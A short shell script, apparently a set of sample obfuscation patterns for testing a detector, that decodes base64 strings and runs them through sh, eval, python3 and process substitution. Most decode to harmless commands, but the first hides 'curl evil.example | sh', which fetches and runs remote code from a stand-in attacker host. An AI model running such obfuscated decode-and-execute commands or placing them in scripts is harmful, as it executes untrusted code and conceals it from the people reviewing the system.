#!/bin/sh
echo Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo= | base64 -d | sh
eval "$(echo ZWNobyBoaQo= | base64 --decode)"
python3 -c "$(echo cHJpbnQoMSkK | base64 -d)"
sh <(echo ZWNobyBoaQo= | base64 -d)
